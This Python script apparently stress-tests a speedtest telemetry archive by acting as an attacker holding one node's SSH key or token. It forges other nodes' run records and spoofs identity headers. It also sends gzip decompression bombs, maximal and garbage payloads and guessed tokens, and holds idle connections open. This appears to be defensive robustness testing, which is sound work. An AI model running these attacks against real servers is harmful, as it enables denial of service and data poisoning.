"""What a stranger does with a node's key, or its token: run on the node, as its account. One JSON object per delivery.

attack.py '{"seconds": 60, "victim": "attic", "location": "home", "interval": 60, "offset": 7, "connections": 60}'
"""

import base64
import gzip
import hashlib
import http.client
import json
import secrets
import socket
import ssl
import subprocess
import sys
import time
import uuid
import zlib
from collections import Counter
from contextlib import suppress
from datetime import datetime, timezone

NAMESPACE = uuid.UUID("5b3f1f4e-6f5a-4a57-9c1c-0d7c5f0e8a11")  # public, as all of the arithmetic is
HOUR = 3600
DELIVERY_BYTES = 63_900_000
ANSWER_SECONDS = 150
TEXTS = [
    "logger_version",
    "message",
    "engine",
    "engine_requested",
    "engine_version",
    "server_id",
    "server_name",
    "server_host",
    "server_country",
    "isp",
    "external_ip",
    "interface",
    "result_url",
]
COLUMNS = [
    "download_bps",
    "upload_bps",
    "latency_ms",
    "latency_low_ms",
    "latency_high_ms",
    "jitter_ms",
    "download_latency_ms",
    "upload_latency_ms",
    "packet_loss_pct",
]


def settings():
    with open("/etc/speedtest-telemetry/logger.env", encoding="utf-8") as file:
        lines = [line.strip().split("=", 1) for line in file if "=" in line and not line.startswith("#")]
    return {name.removeprefix("SPEEDTEST_"): value.strip('"') for name, value in lines}


OWN = settings()


class Ssh:
    """Connections by the node's key."""

    def __init__(self, idle):
        """So many stay open and say nothing."""
        self.archive = f"{OWN['ARCHIVE_USER']}@{OWN['ARCHIVE_HOST']}"
        self.ssh = [
            *("ssh", "-F", "none", "-T", "-i", OWN["KEY_FILE"], "-p", OWN["ARCHIVE_PORT"], "-o", "BatchMode=yes"),
            *("-o", f"UserKnownHostsFile={OWN['KNOWN_HOSTS_FILE']}", "-o", "LogLevel=ERROR"),
            *("-o", "ServerAliveInterval=5"),
        ]
        nothing = dict.fromkeys(("stdin", "stdout", "stderr"), subprocess.DEVNULL)
        self.idle = [subprocess.Popen([*self.ssh, "-N", self.archive], **nothing) for _ in range(idle)]

    def exchange(self, pieces):
        """Pieces of bytes up, what is said down. It may hang up before all is sent."""
        process = subprocess.Popen(
            [*self.ssh, self.archive, "receive"],
            stdin=subprocess.PIPE, stdout=subprocess.PIPE, stderr=subprocess.STDOUT, bufsize=0,
        )  # fmt: skip
        with suppress(BrokenPipeError):
            for piece in pieces:
                process.stdin.write(piece)
            process.stdin.close()
        said = process.stdout.read().decode(errors="replace")
        process.wait()
        return said

    def more(self, order):
        """Nothing that other ways have not."""

    def held(self):
        """How many of the idle ones are open."""
        held = sum(process.poll() is None for process in self.idle)
        for process in self.idle:
            process.kill()
            process.wait()
        return held


class Https:
    """Connections by the node's token."""

    def __init__(self, idle):
        """So many stay open and say nothing."""
        self.trusting = ssl.create_default_context(cafile=OWN.get("CA_FILE"))
        self.trusting.verify_flags |= ssl.VERIFY_X509_PARTIAL_CHAIN
        with open(OWN["TOKEN_FILE"], encoding="ascii") as file:
            self.token = file.read().strip()
        self.idle = [self.connected() for _ in range(idle)]

    def connected(self):
        plain = socket.create_connection((OWN["ARCHIVE_HOST"], int(OWN["ARCHIVE_PORT"])), 20)
        return self.trusting.wrap_socket(plain, server_hostname=OWN["ARCHIVE_HOST"])

    def exchange(self, pieces):
        """Pieces of bytes up, what is said down."""
        return self.posted(gzip.compress(b"".join(pieces), 1))

    def posted(self, body, token=None, method="POST", **headers):
        link = http.client.HTTPSConnection(
            OWN["ARCHIVE_HOST"], int(OWN["ARCHIVE_PORT"]), timeout=ANSWER_SECONDS, context=self.trusting
        )
        try:
            sent = {"Authorization": f"Bearer {token or self.token}", "Content-Encoding": "gzip", **headers}
            with suppress(BrokenPipeError, ConnectionResetError):  # it may hang up before all is sent
                link.request(method, "/deliver", body, sent)
            return link.getresponse().read().decode(errors="replace")
        except (OSError, http.client.HTTPException) as error:
            return repr(error)
        finally:
            link.close()

    def more(self, order):
        """What only this way has: bodies that are packed, tokens that are guessed, requests of other kinds."""
        packer, block = zlib.compressobj(9, wbits=31), bytes(1_000_000)
        told("a gigabyte in a body", self.posted(b"".join([*map(packer.compress, [block] * 1000), packer.flush()])))
        told("a body that is cut off", self.posted(gzip.compress(lines([row(time.time())]))[:-9]))
        told("no gzip", self.posted(b"\xff" * 100_000))
        honest = gzip.compress(lines([row(time.time() - 2, node=order["victim"], location=order["location"])]))
        told("another node's name", self.posted(honest, **{"X-Node": order["victim"], "X-Forwarded-For": "127.0.0.1"}))
        for length in (1, 63, 64, 65, 1000):
            told(f"a guessed token of {length}", self.posted(honest, token=secrets.token_hex(length)[:length]))
        for method in ("GET", "PUT", "DELETE"):
            told(method, self.posted(honest, method=method))

    def held(self):
        """How many of the idle ones are open."""
        return sum(map(self.is_open, self.idle))

    def is_open(self, stream):
        stream.settimeout(0.1)
        try:
            return bool(stream.recv(1))
        except OSError as error:
            return isinstance(error, TimeoutError)


def text(moment):
    return datetime.fromtimestamp(int(moment), tz=timezone.utc).strftime("%Y-%m-%dT%H:%M:%S.000Z")


def run_id_of_slot(node, moment):
    return str(uuid.uuid5(NAMESPACE, f"{node} {text(moment)}"))


def row(moment, **values):
    """A valid row of this node, of a measurement by hand unless told otherwise; times are Unix times."""
    return {
        "schema_version": 1,
        "run_id": str(uuid.uuid4()),
        "node": OWN["NODE"],
        "location": OWN["LOCATION"],
        "runtime": OWN.get("RUNTIME", "systemd"),
        "started_at": text(moment),
        "finished_at": text(moment + 1),
        "status": "ok",
        "download_bps": 1.0,
        "upload_bps": 1.0,
        **values,
    }


def lines(rows):
    return b"".join(json.dumps(each, ensure_ascii=False).encode() + b"\n" for each in rows)


def deliver(what, payload):
    """Send bytes, or pieces of bytes; print what the archive answers."""
    began = time.monotonic()
    said = way.exchange([payload] if isinstance(payload, bytes) else payload)
    told(what, said, seconds=round(time.monotonic() - began, 1))


def told(what, said, **more):
    """Print what the archive answered, in short."""
    try:
        answer = json.loads(said.strip().splitlines()[-1])
    except (ValueError, IndexError):
        answer = {"refused": "no answer", "message": said[-300:]}
    short = {"attack": what, **more, "refused": answer.get("refused"), "message": answer.get("message")}
    short["accepted"] = len(answer.get("accepted", []))
    for kind in ("rejected", "later"):
        short[kind] = Counter(words.split(":")[0] for words in answer.get(kind, {}).values())
    print(json.dumps(short), flush=True)


def others_runs(order):
    """Another node's run_ids of two days to come and two days past, under this key's name, at its place and ours."""
    now = int(time.time())
    first = (now - 48 * HOUR - order["offset"]) // order["interval"] * order["interval"] + order["offset"]
    slots = range(first, now + 48 * HOUR, order["interval"])
    runs = [run_id_of_slot(order["victim"], slot) for slot in slots]
    for location in (order["location"], OWN["LOCATION"]):
        deliver(
            f"the runs of {order['victim']} at {location}",
            lines(row(now - 2, run_id=r, location=location) for r in runs),
        )
    for slot_too in (False, True):
        deliver(
            f"the runs of {order['victim']}, each at its time, {'with' if slot_too else 'without'} its slot",
            lines(
                row(slot, run_id=run, location=order["location"], **({"scheduled_at": text(slot)} if slot_too else {}))
                for slot, run in zip(slots, runs, strict=False)
                if slot < now
            ),
        )
    deliver(f"rows of {order['victim']}", lines(row(now - 2, node=order["victim"]) for _ in range(100)))


def others_places(order):
    places = [order["location"], *(f"place-{number}" for number in range(400))]
    deliver("places of others", lines(row(time.time() - 2, location=place) for place in places))


def months():
    """4,000 months of places: ours and five more, from 1970 on."""
    moments = [
        datetime(1970 + number // 12, number % 12 + 1, 2, tzinfo=timezone.utc).timestamp() for number in range(670)
    ]
    places = [OWN["LOCATION"], "a", "b", "c", "d", "e"]
    deliver("months from 1970 on", lines(row(moment, location=place) for place in places for moment in moments))
    deliver("our own months from 1970 on", lines(row(moment) for moment in moments))


def two_of_one():
    """Two different records of each of our own runs."""
    interval, offset = int(OWN["INTERVAL_SECONDS"]), int(OWN["OFFSET_SECONDS"])
    last = (int(time.time()) - 60 - offset) // interval * interval + offset
    slots = [last - number * interval for number in range(30)]
    for speed in (1.0, 2.0):
        rows = (
            row(slot, run_id=run_id_of_slot(OWN["NODE"], slot), scheduled_at=text(slot), download_bps=speed)
            for slot in slots
        )
        deliver("our own runs, told twice", lines(rows))


def bombs(count):
    """Raw output that is small packed and large unpacked."""
    words = bytes(4_000_000)
    content = base64.b64encode(zlib.compress(words, 9)).decode()
    digest = hashlib.sha256(words).hexdigest()
    rows = []
    for number in range(count):
        record = row(time.time() - 10 - number, raw_sha256=digest)
        rows += [record, {"raw_of": record["run_id"], "content": content}]
    deliver(f"{count} bombs", lines(rows))


def largest_rows(count):
    """Valid rows, each as long as a row can be."""
    words = dict.fromkeys(TEXTS, "\u00e9" * 1000) | dict.fromkeys(COLUMNS, 2**52 - 0.5)
    piece = (lines([row(time.time() - 5 - number % 3000, **words)]) for number in range(count))
    deliver("largest rows", piece)


def garbage(line):
    """As many bytes as a delivery may have, none of them a row."""
    block = line * max(1, 1_000_000 // len(line))
    deliver(f"garbage in lines of {len(line)} bytes", (block for _ in range(DELIVERY_BYTES // len(block))))


def attack(order):
    began = time.monotonic()
    others_runs(order)
    others_places(order)
    months()
    two_of_one()
    bombs(order.get("bombs", 100))
    largest_rows(1000)
    way.more(order)
    garbage(b"\xff" * 31_000 + b"\n")
    garbage(b'{"a": "' + b"x" * 3_200 + b'"}\n')
    while time.monotonic() - began < order["seconds"]:
        garbage(b"\xff" * 6_000 + b"\n")
        garbage(b'{"run_id": "' + b"y" * 30_000 + b'"}\n')
        largest_rows(2000)
    print(json.dumps({"attack": "idle connections", "held": way.held(), "seconds": round(time.monotonic() - began, 1)}))


given = json.loads(sys.argv[1])
way = (Https if OWN.get("TRANSPORT") == "https" else Ssh)(given["connections"])
attack(given)
